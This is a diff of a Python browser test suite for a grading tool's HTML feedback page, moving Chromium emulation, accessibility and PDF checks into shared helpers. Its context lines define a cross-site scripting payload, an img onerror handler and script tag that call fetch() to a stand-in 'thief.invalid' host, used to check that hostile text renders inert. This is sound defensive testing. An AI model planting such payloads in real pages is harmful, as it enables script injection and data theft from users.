@@ -5,10 +5,7 @@ With `AXE_CORE=…/axe.min.js`, from `npm pack axe-core`, its accessibility is c
 
 from __future__ import annotations
 
-import base64
-import os
 from collections.abc import Iterator
-from pathlib import Path
 
 import pytest
 
@@ -19,14 +16,10 @@ from grader.reports.feedback.content import FeedbackMaker
 from grader.reports.feedback.lesson import Lessons
 from grader.reports.feedback.page import as_html
 from grader.reports.lateness import Deadlines
-from tests.grader.nbgrader.browser import CHROMEDRIVER, CHROMIUM, Chromium
+from tests.grader.nbgrader.browser import Chromium, needs_axe, needs_chromium
 from tests.grader.reports.made import result, submission, todo, verdict
 
-pytestmark = pytest.mark.skipif(
-    CHROMIUM is None or CHROMEDRIVER is None,
-    reason="there is no chromium, or no chromedriver for it: apt install chromium-driver",
-)
-AXE = os.environ.get("AXE_CORE", "")
+pytestmark = needs_chromium
 THIEF = "thief.invalid"
 STEAL = f"document.title='stolen';fetch('http://{THIEF}/')"
 HOSTILE = f'<img src="http://{THIEF}/" onerror="{STEAL}"></script><script>{STEAL}</script>\u202ex'
@@ -54,11 +47,6 @@ def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chromium]:
     browser.open(path.as_uri())
     yield browser
     browser.driver.quit()
-
-
-def emulate(chromium: Chromium, command: str, **values: object) -> None:
-    """Be another device."""
-    chromium.driver.execute_cdp_cmd(f"Emulation.{command}", values)
 
 
 def test_hostile_text_is_shown_and_nothing_runs_or_is_asked_for(chromium):
@@ -91,27 +79,19 @@ def test_what_comes_next_stands_before_the_details(chromium):
 @pytest.mark.parametrize("scheme", ["light", "dark"])
 @pytest.mark.parametrize("width", [360, 820, 1400])
 def test_no_width_is_too_small(chromium, width, scheme):
-    features = [{"name": "prefers-color-scheme", "value": scheme}]
-    emulate(chromium, "setEmulatedMedia", features=features)
-    emulate(
-        chromium,
-        "setDeviceMetricsOverride",
-        width=width,
-        height=800,
-        deviceScaleFactor=1,
-        mobile=True,
-    )
-    inside = "return [innerWidth, document.documentElement.scrollWidth]"
-    assert chromium.driver.execute_script(inside) == [width, width]
-    background = chromium.find("body").value_of_css_property("background-color")
-    assert background == {"light": "rgba(255, 255, 255, 1)", "dark": "rgba(20, 23, 27, 1)"}[scheme]
-    if AXE:
-        run = "const done = arguments[0]; axe.run(document).then((found) => done(found.violations))"
-        chromium.driver.execute_script(Path(AXE).read_text(encoding="utf-8"))
-        assert chromium.driver.execute_async_script(run) == []
-    emulate(chromium, "clearDeviceMetricsOverride")
-    emulate(chromium, "setEmulatedMedia", features=[])
+    with chromium.device(width, scheme):
+        assert chromium.widths() == [width, width]
+        colour = chromium.find("body").value_of_css_property("background-color")
+        assert colour == {"light": "rgba(255, 255, 255, 1)", "dark": "rgba(20, 23, 27, 1)"}[scheme]
+
+
+@needs_axe
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [360, 820, 1400])
+def test_axe_finds_nothing(chromium, width, scheme):
+    with chromium.device(width, scheme):
+        assert chromium.violations() == []
 
 
 def test_prints(chromium):
-    assert base64.b64decode(chromium.driver.print_page()).startswith(b"%PDF-")
+    assert chromium.printed().startswith(b"%PDF-")
